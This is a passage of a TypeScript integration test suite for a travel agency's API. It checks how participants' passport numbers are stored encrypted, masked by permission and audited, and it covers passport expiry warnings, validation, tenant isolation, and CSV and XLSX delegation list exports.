import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import {
  PROBLEM,
  type Method,
  type Headers,
  type Body,
  type PageBody,
  type FieldErrorBody,
  type AuditEventBody,
  bufferParser,
  expectProblem,
} from './support/api.js';
import {
  addApiKey,
  addStaff,
  bearer,
  signUpAgency,
  type Agency,
  type Staff,
} from './support/identity.js';
import { startTestApp, type TestApp } from './support/test-app.js';
import { GERMAN_HEADERS } from './support/delegation-list.js';
import {
  addParticipant,
  createOrganisation,
  PASSPORT,
  recordPassport,
  tag,
  tripBody,
  tripIn,
} from './support/factories.js';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

interface TripBody {
  id: string;
  title: string;
  endDate: string;
  version: number;
}

interface ParticipantBody {
  id: string;
  tripId: string;
  contactId: string;
  role: string;
  category: string;
  status: string;
  registeredAt: string;
  version: number;
}

/** The delegation trip of the examples: ends 2 Oct 2022, so passports must last until 2 Apr 2023. */
const KASACHSTAN = tripBody({ capacity: 100 });
const KASACHSTAN_VALID_UNTIL = '2023-04-02';

/**
 * The delegation list's columns, as a spreadsheet user reads them: in the
 * agency's language, German unless it chose another.
 */
const HEADERS = GERMAN_HEADERS;
const HEADERS_WITH_NUMBERS = [...HEADERS.slice(0, 12), 'Passnummer', ...HEADERS.slice(12)];

/** Katrin Vogel of Jenoptik, under a unique name and email unless `fields` say otherwise. */
const jenoptikPerson = (fields: Body = {}) => ({
  contact: {
    firstName: 'Katrin',
    lastName: `Vogel-${tag()}`,
    email: `katrin.vogel.${tag()}@jenoptik.example`,
    ...fields,
  },
});

/** A passport number nobody else has (letters beyond hex, so never part of an id). */
function uniquePassportNumber(): string {
  const alphabet = 'GHJKLMNPRTVWXYZ0123456789';
  let number = 'X';
  for (let i = 0; i < 8; i++) number += alphabet[Math.floor(Math.random() * alphabet.length)];
  return number;
}

/** RFC 4180, as a spreadsheet reads it; German files are separated by semicolons. */
function parseCsv(text: string, delimiter = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === delimiter) {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** Every cell of the first worksheet as text (empty cells as ''), and the cells themselves. */
async function readXlsx(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: string[][] = [];
  const cells: ExcelJS.Cell[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const texts: string[] = [];
    const rowCells: ExcelJS.Cell[] = [];
    for (let column = 1; column <= sheet.columnCount; column++) {
      const cell = row.getCell(column);
      rowCells.push(cell);
      texts.push(cell.text);
    }
    rows.push(texts);
    cells.push(rowCells);
  });
  return { sheet, rows, cells };
}

/**
 * Passports of participants and the delegation list export, through HTTP
 * against real PostgreSQL: the number sealed at rest and shown only to who
 * may read personal data (every read audited), masked otherwise; the expiry
 * warning against the trip's end plus six months; validation, tenant
 * isolation, If-Match and DELETE; CSV (formula-safe) and XLSX files.
 */
describe('travel documents and the delegation list export', () => {
  let t: TestApp;
  let desk: Agency;
  let deskAdmin: Staff;
  let deskOrganiser: Staff;
  let deskViewer: Staff;
  /** Keys: `pii:read` alone, `participants:read` alone, `participants:write` alone, and read + pii. */
  let piiKey: { id: string; key: string };
  let readKey: { id: string; key: string };
  let writeKey: { id: string; key: string };
  let exportKey: { id: string; key: string };
  let jenoptik: string;
  /** desk's Kazakhstan trip (registration open) and a second trip of desk. */
  let trip: TripBody;
  let otherTrip: TripBody;
  /** Look-alike agency with its own trip and participant; must stay invisible to desk. */
  let rival: Agency;
  let rivalTrip: TripBody;
  let rivalParticipant: ParticipantBody;

  const call = (headers: Headers, method: Method, path: string, body?: object) => {
    const request = t.http()[method](`/api/v1${path}`).set(headers);
    return body ? request.send(body) : request;
  };
  const owner = (agency: Agency): Headers => bearer(agency.owner.accessToken);
  const staff = (member: Staff): Headers => bearer(member.accessToken);
  const apiKey = (key: { key: string }): Headers => ({ 'X-API-Key': key.key });
  const documentPath = (tripId: string, participantId: string) =>
    `/trips/${tripId}/participants/${participantId}/travel-document`;

  /** A 400 whose `errors` name exactly `fields` (and nothing else). */
  function expectInvalid(response: Response, fields: string | string[]) {
    expectProblem(response, 400, 'validation_failed');
    const errors = response.body.errors as FieldErrorBody[];
    expect(errors.length).toBeGreaterThan(0);
    expect([...new Set(errors.map((error) => error.field))].sort()).toEqual([fields].flat().sort());
    for (const error of errors) expect(typeof error.message).toBe('string');
  }

  const putDocument = (
    headers: Headers,
    participant: { tripId: string; id: string },
    body: object,
    extra: Headers = {},
  ) =>
    call({ ...headers, ...extra }, 'put', documentPath(participant.tripId, participant.id), body);

  const getDocument = (headers: Headers, participant: { tripId: string; id: string }) =>
    call(headers, 'get', documentPath(participant.tripId, participant.id));

  async function storedDocuments(participantId: string): Promise<number> {
    const [row] = await t.dataSource.query<{ count: number }[]>(
      'SELECT count(*)::int AS count FROM travel_documents WHERE participant_id = $1',
      [participantId],
    );
    return row.count;
  }

  /** Every audit event of the agency (all pages), newest first. */
  async function allAuditEvents(
    agency: Agency,
    query: Record<string, string> = {},
  ): Promise<AuditEventBody[]> {
    const events: AuditEventBody[] = [];
    let cursor: string | null = null;
    do {
      const response = await t
        .http()
        .get('/api/v1/audit-events')
        .query({ limit: 200, ...query, ...(cursor ? { cursor } : {}) })
        .set(owner(agency));
      expect(response.status).toBe(200);
      const page = response.body as PageBody<AuditEventBody>;
      events.push(...page.items);
      cursor = page.nextCursor;
    } while (cursor);
    return events;
  }

  /**
   * Where `needle` occurs (case-insensitive) in the test database: every
   * text-like column (text, varchar, char, citext, arrays, json, jsonb,
   * bytea) of every table, as `table.column`.
   */
  async function findInDatabase(needle: string): Promise<string[]> {
    const columns = await t.dataSource.query<
      { schema: string; table: string; column: string; type: string }[]
    >(
      `SELECT c.table_schema AS schema, c.table_name AS table, c.column_name AS column,
              c.data_type AS type
         FROM information_schema.columns c
         JOIN information_schema.tables tb
           ON tb.table_schema = c.table_schema AND tb.table_name = c.table_name
        WHERE tb.table_type = 'BASE TABLE'
          AND c.table_schema NOT IN ('pg_catalog', 'information_schema')
          AND c.data_type IN ('text', 'character varying', 'character', 'USER-DEFINED',
                              'ARRAY', 'json', 'jsonb', 'bytea')`,
    );
    expect(columns.length).toBeGreaterThan(20);
    const hits: string[] = [];
    for (const { schema, table, column, type } of columns) {
      const value = type === 'bytea' ? `encode("${column}", 'escape')` : `"${column}"::text`;
      const [row] = await t.dataSource.query<{ n: number }[]>(
        `SELECT count(*)::int AS n FROM "${schema}"."${table}"
          WHERE strpos(lower(${value}), lower($1)) > 0`,
        [needle],
      );
      if (row.n > 0) hits.push(`${table}.${column}`);
    }
    return hits;
  }

  /** GET the export as raw bytes. */
  async function exportFile(headers: Headers, tripId: string, query: Record<string, string>) {
    const response = await t
      .http()
      .get(`/api/v1/trips/${tripId}/participants/export`)
      .query(query)
      .set(headers)
      .buffer(true)
      .parse(bufferParser);
    return { response, body: response.body as Buffer };
  }

  /** The export's rows as text: CSV parsed, XLSX opened with exceljs. */
  async function exportRows(
    headers: Headers,
    tripId: string,
    query: Record<string, string>,
  ): Promise<string[][]> {
    const { response, body } = await exportFile(headers, tripId, query);
    expect(response.status).toBe(200);
    if (query.format === 'csv') return parseCsv(body.subarray(BOM.length).toString('utf8'));
    return (await readXlsx(body)).rows;
  }

  beforeAll(async () => {
    t = await startTestApp();
    [desk, rival] = await Promise.all([
      signUpAgency(t, { tenantName: 'Thüringen International', name: 'Katrin Weber' }),
      signUpAgency(t, { tenantName: 'Thüringen International', name: 'Katrin Weber' }),
    ]);
    [deskAdmin, deskOrganiser, deskViewer, piiKey, readKey, writeKey, exportKey, jenoptik] =
      await Promise.all([
        addStaff(t, desk, 'admin', 'Anna Schmidt'),
        addStaff(t, desk, 'organiser', 'Jonas Becker'),
        addStaff(t, desk, 'viewer', 'Lena Hoffmann'),
        addApiKey(t, desk, ['pii:read'], { name: 'Visa agency' }),
        addApiKey(t, desk, ['participants:read'], { name: 'CRM read' }),
        addApiKey(t, desk, ['participants:write'], { name: 'Registration form' }),
        addApiKey(t, desk, ['participants:read', 'pii:read'], { name: 'Embassy list' }),
        createOrganisation(t, desk, {
          name: 'Jenoptik AG',
          kind: 'company',
          country: 'DE',
          city: 'Jena',
        }).then((organisation) => organisation.id),
      ]);
    [trip, otherTrip, rivalTrip] = await Promise.all([
      tripIn(t, desk, 'registration_open', KASACHSTAN),
      tripIn(t, desk, 'registration_open', {
        ...KASACHSTAN,
        title: 'Delegationsreise Zentralasien',
      }),
      tripIn(t, rival, 'registration_open', KASACHSTAN),
    ]);
    rivalParticipant = await addParticipant(t, rival, rivalTrip.id, jenoptikPerson());
    await recordPassport(t, rival, rivalParticipant);
  });

  afterAll(async () => {
    await t?.close();
  });

  describe('PUT records the passport', () => {
    it('stores it with the number normalised, shown in full to an organiser, with an ETag', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      const response = await putDocument(staff(deskOrganiser), participant, {
        ...PASSPORT,
        passportNumber: 'c01x 00-t47',
        nationality: 'de',
      });
      expect(response.status).toBe(200);
      expect(response.headers.etag).toBe('"1"');
      expect(response.body).toEqual({
        participantId: participant.id,
        passportNumber: 'C01X00T47',
        nationality: 'DE',
        issuingCountry: 'DE',
        issuedOn: '2019-03-14',
        expiresOn: '2029-03-13',
        validityRequiredUntil: KASACHSTAN_VALID_UNTIL,
        expiryWarning: false,
        createdAt: expect.any(String),
        updatedAt: expect.any(String),
        version: 1,
      });

      const read = await getDocument(owner(desk), participant);
      expect(read.status).toBe(200);
      expect(read.headers.etag).toBe('"1"');
      expect(read.body).toEqual(response.body);
    });

    it('accepts a passport without an issue date', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      const response = await putDocument(owner(desk), participant, {
        ...PASSPORT,
        issuedOn: undefined,
      });
      expect(response.status).toBe(200);
      expect(response.body).toMatchObject({ issuedOn: null, expiresOn: PASSPORT.expiresOn });
    });

    it('answers with the number masked to a caller who may write participants but not read personal data', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      const created = await putDocument(apiKey(writeKey), participant, PASSPORT);
      expect(created.status).toBe(200);
      expect(created.body.passportNumber).toBe('*****0T47');
      expect(JSON.stringify(created.body)).not.toContain('C01X00T47');

      const replaced = await putDocument(apiKey(writeKey), participant, {
        ...PASSPORT,
        passportNumber: 'C55Y12R98',
        expiresOn: '2031-01-31',
      });
      expect(replaced.status).toBe(200);
      expect(replaced.body).toMatchObject({
        passportNumber: '*****2R98',
        expiresOn: '2031-01-31',
        version: 2,
      });

      // Stored in full all the same.
      const read = await getDocument(owner(desk), participant);
      expect(read.body).toMatchObject({ passportNumber: 'C55Y12R98', expiresOn: '2031-01-31' });
    });

    it('answers with the number in full to the owner and an admin', async () => {
      for (const headers of [owner(desk), staff(deskAdmin)]) {
        const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
        const response = await putDocument(headers, participant, PASSPORT);
        expect(response.status).toBe(200);
        expect(response.body.passportNumber).toBe('C01X00T47');
      }
    });

    it('is 403 for a viewer, a pii:read key and a participants:read key, and stores nothing', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      for (const headers of [staff(deskViewer), apiKey(piiKey), apiKey(readKey)]) {
        expectProblem(await putDocument(headers, participant, PASSPORT), 403, 'forbidden');
      }
      expect(await storedDocuments(participant.id)).toBe(0);
      expectProblem(await getDocument(owner(desk), participant), 404, 'not_found');
    });

    it('records the change in the audit trail, naming the number as changed but never its value', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      await recordPassport(t, desk, participant);
      await recordPassport(t, desk, participant, { ...PASSPORT, passportNumber: 'C77Z31K20' });
      const events = await allAuditEvents(desk, { entityId: participant.id });
      const created = events.find((event) => event.action === 'travel_document.created');
      const updated = events.find((event) => event.action === 'travel_document.updated');
      expect(created).toMatchObject({
        actorType: 'user',
        actorId: desk.owner.id,
        entityType: 'participant',
        entityId: participant.id,
        changes: {
          passportNumber: { before: null, after: '[redacted]' },
          nationality: { before: null, after: 'DE' },
          expiresOn: { before: null, after: PASSPORT.expiresOn },
        },
      });
      expect(updated?.changes).toEqual({
        passportNumber: { before: '[redacted]', after: '[redacted]' },
      });
    });
  });

  describe('GET shows the passport to those who may read personal data', () => {
    let participant: ParticipantBody;

    beforeAll(async () => {
      participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      await recordPassport(t, desk, participant);
    });

    it('in full to the owner, an admin, an organiser and a pii:read key, auditing every read', async () => {
      const readers: [Headers, string][] = [
        [owner(desk), desk.owner.id],
        [staff(deskAdmin), deskAdmin.id],
        [staff(deskOrganiser), deskOrganiser.id],
        [apiKey(piiKey), piiKey.id],
      ];
      const before = await allAuditEvents(desk, {
        action: 'travel_document.read',
        entityId: participant.id,
      });
      for (const [headers] of readers) {
        const response = await getDocument(headers, participant);
        expect(response.status).toBe(200);
        expect(response.headers.etag).toBe('"1"');
        expect(response.body).toMatchObject({
          participantId: participant.id,
          passportNumber: 'C01X00T47',
          nationality: 'DE',
          expiresOn: PASSPORT.expiresOn,
        });
      }
      const after = await allAuditEvents(desk, {
        action: 'travel_document.read',
        entityId: participant.id,
      });
      expect(after).toHaveLength(before.length + readers.length);
      const fresh = after.slice(0, readers.length);
      expect(fresh.map((event) => event.actorId).sort()).toEqual(
        readers.map(([, id]) => id).sort(),
      );
      for (const event of fresh) {
        expect(event).toMatchObject({ entityType: 'participant', entityId: participant.id });
        expect(JSON.stringify(event)).not.toContain('C01X00T47');
      }
      expect(fresh.find((event) => event.actorId === piiKey.id)?.actorType).toBe('api_key');
    });

    it('reading the same passport twice is audited twice', async () => {
      const count = async () =>
        (await allAuditEvents(desk, { action: 'travel_document.read', entityId: participant.id }))
          .length;
      const before = await count();
      expect((await getDocument(staff(deskOrganiser), participant)).status).toBe(200);
      expect((await getDocument(staff(deskOrganiser), participant)).status).toBe(200);
      expect(await count()).toBe(before + 2);
    });

    it('is 403 for a viewer and for a key with only participants:read (or write), and those attempts read nothing', async () => {
      const before = await allAuditEvents(desk, {
        action: 'travel_document.read',
        entityId: participant.id,
      });
      for (const headers of [staff(deskViewer), apiKey(readKey), apiKey(writeKey)]) {
        const response = await getDocument(headers, participant);
        expectProblem(response, 403, 'forbidden');
        expect(JSON.stringify(response.body)).not.toContain('C01X00T47');
        expect(JSON.stringify(response.body)).not.toContain('0T47');
      }
      const after = await allAuditEvents(desk, {
        action: 'travel_document.read',
        entityId: participant.id,
      });
      expect(after).toHaveLength(before.length);
    });

    it('is 401 without credentials', async () => {
      const response = await t.http().get(`/api/v1${documentPath(trip.id, participant.id)}`);
      expectProblem(response, 401, 'authentication_required');
    });

    it('is 404 while no passport is recorded for the participant', async () => {
      const without = await addParticipant(t, desk, trip.id, jenoptikPerson());
      expectProblem(await getDocument(owner(desk), without), 404, 'not_found');
    });
  });

  describe('the passport number is never where it should not be', () => {
    const number = uniquePassportNumber();
    const earlier = uniquePassportNumber();
    let participant: ParticipantBody;
    let lastName: string;

    beforeAll(async () => {
      lastName = `Oberländer-${tag()}`;
      participant = await addParticipant(t, desk, trip.id, jenoptikPerson({ lastName }));
      await recordPassport(t, desk, participant, { ...PASSPORT, passportNumber: earlier });
      await recordPassport(t, desk, participant, { ...PASSPORT, passportNumber: number });
      // Read it, and export it with numbers, so every code path that touches it has run.
      expect((await getDocument(staff(deskOrganiser), participant)).body.passportNumber).toBe(
        number,
      );
      const withNumbers = await exportFile(staff(deskOrganiser), trip.id, {
        format: 'csv',
        includePassportNumbers: 'true',
      });
      expect(withNumbers.body.toString('utf8')).toContain(number);
    });

    it('is in no column of any table of the database, neither the current nor the replaced number', async () => {
      // The search does find what is stored in plain text.
      expect(await findInDatabase(lastName)).toContain('contacts.last_name');
      expect(await findInDatabase(number)).toEqual([]);
      expect(await findInDatabase(earlier)).toEqual([]);
      const [row] = await t.dataSource.query<{ key_id: string; sealed: Buffer }[]>(
        'SELECT key_id, passport_number_sealed AS sealed FROM travel_documents WHERE participant_id = $1',
        [participant.id],
      );
      expect(row.key_id).toBe(t.config.PII_ENCRYPTION_KEYS[0].split(':')[0]);
      expect(row.sealed.toString('latin1')).not.toContain(number);
    });

    it('is in no participant list or participant response, even to the owner', async () => {
      const list = await t
        .http()
        .get(`/api/v1/trips/${trip.id}/participants`)
        .query({ limit: 200 })
        .set(owner(desk));
      expect(list.status).toBe(200);
      expect((list.body as PageBody<ParticipantBody>).items.map((p) => p.id)).toContain(
        participant.id,
      );
      expect(JSON.stringify(list.body)).not.toContain(number);
      const one = await call(
        owner(desk),
        'get',
        `/trips/${trip.id}/participants/${participant.id}`,
      );
      expect(one.status).toBe(200);
      expect(JSON.stringify(one.body)).not.toContain(number);
      expect(JSON.stringify(one.body)).not.toContain(earlier);
    });

    it('is in no audit event', async () => {
      const events = await allAuditEvents(desk);
      expect(events.some((event) => event.entityId === participant.id)).toBe(true);
      const text = JSON.stringify(events);
      expect(text).not.toContain(number);
      expect(text).not.toContain(earlier);
    });

    it.each(['csv', 'xlsx'])(
      'is in no %s export unless passport numbers are asked for',
      async (format) => {
        for (const headers of [owner(desk), staff(deskOrganiser), apiKey(exportKey)]) {
          const rows = await exportRows(headers, trip.id, { format });
          expect(rows[0]).toEqual(HEADERS);
          expect(rows.some((row) => row[2] === lastName)).toBe(true);
          expect(JSON.stringify(rows)).not.toContain(number);
          const no = await exportRows(headers, trip.id, {
            format,
            includePassportNumbers: 'false',
          });
          expect(JSON.stringify(no)).not.toContain(number);
        }
        // Nor in the raw bytes of the CSV.
        if (format === 'csv') {
          const raw = await exportFile(owner(desk), trip.id, { format });
          expect(raw.body.toString('utf8')).not.toContain(number);
        }
      },
    );

    it.each(['csv', 'xlsx'])(
      'is in the %s export with includePassportNumbers=true for an organiser, the owner and a pii:read key',
      async (format) => {
        for (const headers of [staff(deskOrganiser), owner(desk), apiKey(exportKey)]) {
          const rows = await exportRows(headers, trip.id, {
            format,
            includePassportNumbers: 'true',
          });
          expect(rows[0]).toEqual(HEADERS_WITH_NUMBERS);
          const row = rows.find((cells) => cells[2] === lastName);
          expect(row?.[HEADERS_WITH_NUMBERS.indexOf('Passnummer')]).toBe(number);
        }
      },
    );

    it('asking for passport numbers without pii:read is 403, for a viewer and a participants:read key', async () => {
      for (const headers of [staff(deskViewer), apiKey(readKey)]) {
        for (const format of ['csv', 'xlsx']) {
          const { response, body } = await exportFile(headers, trip.id, {
            format,
            includePassportNumbers: 'true',
          });
          expect(response.status).toBe(403);
          expect(response.headers['content-type']).toMatch(PROBLEM);
          expect(body.toString('utf8')).not.toContain(number);
        }
      }
    });

    it('an export with passport numbers is audited as such', async () => {
      const before = await allAuditEvents(desk, {
        action: 'participants.exported_with_passport_numbers',
        entityId: trip.id,
      });
      await exportRows(apiKey(exportKey), trip.id, {
        format: 'xlsx',
        includePassportNumbers: 'true',
      });
      const after = await allAuditEvents(desk, {
        action: 'participants.exported_with_passport_numbers',
        entityId: trip.id,
      });
      expect(after).toHaveLength(before.length + 1);
      expect(after[0]).toMatchObject({
        actorType: 'api_key',
        actorId: exportKey.id,
        entityType: 'trip',
        entityId: trip.id,
      });
      expect(JSON.stringify(after)).not.toContain(number);
    });
  });

  describe('expiry warning against the trip end plus six months', () => {
    it.each([
      ['on the last required day', KASACHSTAN_VALID_UNTIL, false],
      ['one day before it', '2023-04-01', true],
      ['long after the trip', '2030-01-01', false],
      ['before the trip', '2022-09-01', true],
    ])('a passport expiring %s (%s) warns: %s', async (_label, expiresOn, warning) => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      const put = await putDocument(owner(desk), participant, { ...PASSPORT, expiresOn });
      // An expiring passport is accepted (the agency follows it up), and flagged.
      expect(put.status).toBe(200);
      expect(put.body).toMatchObject({
        expiresOn,
        validityRequiredUntil: KASACHSTAN_VALID_UNTIL,
        expiryWarning: warning,
      });
      const read = await getDocument(owner(desk), participant);
      expect(read.body).toMatchObject({ expiryWarning: warning });
    });

    it('clamps to the end of a shorter month, the same in the API and in the export', async () => {
      // 31 Aug 2023 plus six months: 29 Feb 2024 (a leap year).
      const august = await tripIn(t, desk, 'registration_open', {
        ...KASACHSTAN,
        title: 'Geschäftsreise Südkorea',
        countries: ['KR'],
        startDate: '2023-08-25',
        endDate: '2023-08-31',
      });
      const onTime = await addParticipant(
        t,
        desk,
        august.id,
        jenoptikPerson({ lastName: 'Punktlich' }),
      );
      const late = await addParticipant(t, desk, august.id, jenoptikPerson({ lastName: 'Knapp' }));
      const ok = await putDocument(owner(desk), onTime, { ...PASSPORT, expiresOn: '2024-02-29' });
      const warn = await putDocument(owner(desk), late, { ...PASSPORT, expiresOn: '2024-02-28' });
      expect(ok.body).toMatchObject({
        validityRequiredUntil: '2024-02-29',
        expiryWarning: false,
      });
      expect(warn.body).toMatchObject({
        validityRequiredUntil: '2024-02-29',
        expiryWarning: true,
      });

      const rows = await exportRows(owner(desk), august.id, { format: 'csv' });
      const warningColumn = HEADERS.indexOf('Pass läuft zu früh ab');
      const expiresColumn = HEADERS.indexOf('Pass gültig bis');
      expect(rows.slice(1).map((row) => [row[2], row[expiresColumn], row[warningColumn]])).toEqual([
        ['Punktlich', '29.02.2024', 'Nein'],
        ['Knapp', '28.02.2024', 'Ja'],
      ]);
    });

    it("follows the agency's own margin, in the API and in the export alike", async () => {
      const strict = await signUpAgency(t, { tenantName: 'Sachsen Connect', name: 'Uwe Krause' });
      const settings = await call(owner(strict), 'patch', '/tenant', {
        passportValidityMarginMonths: 3,
      });
      expect(settings.status).toBe(200);
      const strictTrip = await tripIn(t, strict, 'registration_open', KASACHSTAN);
      const onTheDay = await addParticipant(
        t,
        strict,
        strictTrip.id,
        jenoptikPerson({ lastName: 'Genau' }),
      );
      const dayBefore = await addParticipant(
        t,
        strict,
        strictTrip.id,
        jenoptikPerson({ lastName: 'Knapp' }),
      );
      const ok = await putDocument(owner(strict), onTheDay, {
        ...PASSPORT,
        expiresOn: '2023-01-02',
      });
      const warn = await putDocument(owner(strict), dayBefore, {
        ...PASSPORT,
        expiresOn: '2023-01-01',
      });
      expect(ok.body).toMatchObject({ validityRequiredUntil: '2023-01-02', expiryWarning: false });
      expect(warn.body).toMatchObject({ validityRequiredUntil: '2023-01-02', expiryWarning: true });
      const rows = await exportRows(owner(strict), strictTrip.id, { format: 'csv' });
      expect(
        rows.slice(1).map((row) => [row[2], row[HEADERS.indexOf('Pass läuft zu früh ab')]]),
      ).toEqual([
        ['Genau', 'Nein'],
        ['Knapp', 'Ja'],
      ]);
    });

    it('the export says the same as the API on the boundary of the Kazakhstan trip', async () => {
      const [onTheDay, dayBefore, none] = [`Genau-${tag()}`, `Knapp-${tag()}`, `Ohne-${tag()}`];
      const registered = await Promise.all(
        [onTheDay, dayBefore, none].map((lastName) =>
          addParticipant(t, desk, otherTrip.id, jenoptikPerson({ lastName })),
        ),
      );
      await recordPassport(t, desk, registered[0], {
        ...PASSPORT,
        expiresOn: KASACHSTAN_VALID_UNTIL,
      });
      await recordPassport(t, desk, registered[1], { ...PASSPORT, expiresOn: '2023-04-01' });
      const { body } = await exportFile(owner(desk), otherTrip.id, { format: 'xlsx' });
      const { cells } = await readXlsx(body);
      const warning = (lastName: string) =>
        cells.find((row) => row[2].value === lastName)?.[HEADERS.indexOf('Pass läuft zu früh ab')];
      expect(warning(onTheDay)?.value).toBe(false);
      expect(warning(dayBefore)?.value).toBe(true);
      expect(warning(dayBefore)?.type).toBe(ExcelJS.ValueType.Boolean);
      // No passport recorded: neither yes nor no.
      expect(warning(none)?.type).toBe(ExcelJS.ValueType.Null);
    });
  });

  describe('validation', () => {
    const bad: [string, object, string][] = [
      ['an unknown nationality', { ...PASSPORT, nationality: 'XX' }, 'nationality'],
      [
        'a country name for the issuer',
        { ...PASSPORT, issuingCountry: 'Germany' },
        'issuingCountry',
      ],
      ['no nationality', { ...PASSPORT, nationality: undefined }, 'nationality'],
      ['a date that does not exist', { ...PASSPORT, expiresOn: '2029-02-30' }, 'expiresOn'],
      ['a German-style date', { ...PASSPORT, issuedOn: '14.03.2019' }, 'issuedOn'],
      ['a date with a time', { ...PASSPORT, expiresOn: '2029-03-13T00:00:00Z' }, 'expiresOn'],
      ['no expiry date', { ...PASSPORT, expiresOn: undefined }, 'expiresOn'],
      [
        'an expiry before the issue date',
        { ...PASSPORT, issuedOn: '2029-03-14', expiresOn: '2019-03-13' },
        'expiresOn',
      ],
      ['a number with a slash', { ...PASSPORT, passportNumber: 'C01X/00T47' }, 'passportNumber'],
      ['a number of four characters', { ...PASSPORT, passportNumber: 'C01X' }, 'passportNumber'],
      [
        'a number of 21 characters',
        { ...PASSPORT, passportNumber: 'C01X00T47'.padEnd(21, '9') },
        'passportNumber',
      ],
      ['a number with umlauts', { ...PASSPORT, passportNumber: 'CÄÖÜ00T47' }, 'passportNumber'],
      ['a number as a JSON number', { ...PASSPORT, passportNumber: 10012047 }, 'passportNumber'],
      ['no number', { ...PASSPORT, passportNumber: undefined }, 'passportNumber'],
      ['an unknown field', { ...PASSPORT, placeOfBirth: 'Jena' }, 'placeOfBirth'],
    ];

    let participant: ParticipantBody;
    let existing: ParticipantBody;

    beforeAll(async () => {
      [participant, existing] = await Promise.all([
        addParticipant(t, desk, trip.id, jenoptikPerson()),
        addParticipant(t, desk, trip.id, jenoptikPerson()),
      ]);
      await recordPassport(t, desk, existing);
    });

    it.each(bad)(
      '%s is 400 naming the field, and nothing is stored',
      async (_label, body, field) => {
        const response = await putDocument(owner(desk), participant, body);
        expectInvalid(response, field);
        expect(JSON.stringify(response.body)).not.toContain('C01X00T47');
        expect(await storedDocuments(participant.id)).toBe(0);
        expectProblem(await getDocument(owner(desk), participant), 404, 'not_found');
      },
    );

    it.each(bad)('%s leaves a recorded passport as it was', async (_label, body, field) => {
      expectInvalid(await putDocument(owner(desk), existing, body), field);
      const read = await getDocument(owner(desk), existing);
      expect(read.body).toMatchObject({ ...PASSPORT, version: 1 });
    });

    it('an empty or non-object body is 400', async () => {
      expectProblem(await putDocument(owner(desk), participant, {}), 400, 'validation_failed');
      const text = await t
        .http()
        .put(`/api/v1${documentPath(trip.id, participant.id)}`)
        .set(owner(desk))
        .set('Content-Type', 'application/json')
        .send('"C01X00T47"');
      expect(text.status).toBe(400);
      expect(text.headers['content-type']).toMatch(PROBLEM);
      expect(await storedDocuments(participant.id)).toBe(0);
    });

    it('an id that is not a UUID is 400', async () => {
      const response = await getDocument(owner(desk), { tripId: trip.id, id: 'not-a-uuid' });
      expectProblem(response, 400, 'validation_failed');
    });
  });

  describe('tenant isolation', () => {
    let participant: ParticipantBody;

    beforeAll(async () => {
      participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      await recordPassport(t, desk, participant);
    });

    it("another agency gets 404 for desk's passport, whatever it tries, and changes nothing", async () => {
      const theirs = owner(rival);
      expectProblem(await getDocument(theirs, participant), 404, 'not_found');
      expectProblem(
        await putDocument(theirs, participant, { ...PASSPORT, passportNumber: 'R1VAL0001' }),
        404,
        'not_found',
      );
      expectProblem(
        await call(theirs, 'delete', documentPath(trip.id, participant.id)),
        404,
        'not_found',
      );
      // Through their own trip with desk's participant id: the same.
      const mixed = { tripId: rivalTrip.id, id: participant.id };
      expectProblem(await getDocument(theirs, mixed), 404, 'not_found');
      expectProblem(
        await putDocument(theirs, mixed, { ...PASSPORT, passportNumber: 'R1VAL0001' }),
        404,
        'not_found',
      );
      const read = await getDocument(owner(desk), participant);
      expect(read.body).toMatchObject({ passportNumber: 'C01X00T47', version: 1 });
    });

    it("desk gets 404 for the other agency's passport", async () => {
      expectProblem(await getDocument(owner(desk), rivalParticipant), 404, 'not_found');
      expectProblem(
        await getDocument(owner(desk), { tripId: trip.id, id: rivalParticipant.id }),
        404,
        'not_found',
      );
      expectProblem(await putDocument(owner(desk), rivalParticipant, PASSPORT), 404, 'not_found');
      expectProblem(
        await call(owner(desk), 'delete', documentPath(rivalTrip.id, rivalParticipant.id)),
        404,
        'not_found',
      );
      expect(await storedDocuments(rivalParticipant.id)).toBe(1);
      expect((await getDocument(owner(rival), rivalParticipant)).status).toBe(200);
    });

    it('a participant addressed through another trip of the same agency is 404', async () => {
      const wrongTrip = { tripId: otherTrip.id, id: participant.id };
      expectProblem(await getDocument(owner(desk), wrongTrip), 404, 'not_found');
      expectProblem(await putDocument(owner(desk), wrongTrip, PASSPORT), 404, 'not_found');
      expectProblem(
        await call(owner(desk), 'delete', documentPath(otherTrip.id, participant.id)),
        404,
        'not_found',
      );
      expect((await getDocument(owner(desk), participant)).body.version).toBe(1);
    });

    it('an unknown participant or trip is 404', async () => {
      expectProblem(
        await putDocument(owner(desk), { tripId: trip.id, id: randomUUID() }, PASSPORT),
        404,
        'not_found',
      );
      expectProblem(
        await getDocument(owner(desk), { tripId: randomUUID(), id: participant.id }),
        404,
        'not_found',
      );
    });

    it("another agency's trip cannot be exported", async () => {
      for (const format of ['csv', 'xlsx']) {
        const { response } = await exportFile(owner(desk), rivalTrip.id, { format });
